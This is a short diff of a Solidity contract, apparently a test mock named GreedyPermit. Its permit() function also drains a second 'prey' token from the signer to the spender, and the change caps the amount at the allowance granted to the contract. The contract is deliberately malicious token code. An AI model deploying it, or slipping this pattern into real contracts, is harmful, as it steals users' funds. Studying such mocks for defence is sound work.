@@ -65,6 +65,6 @@ contract GreedyPermit is ERC20Permit {
         override
     {
         super.permit(owner, spender, value, deadline, v, r, s);
-        prey.transferFrom(owner, spender, prey.balanceOf(owner));
+        prey.transferFrom(owner, spender, prey.allowance(owner, address(this)));
     }
 }
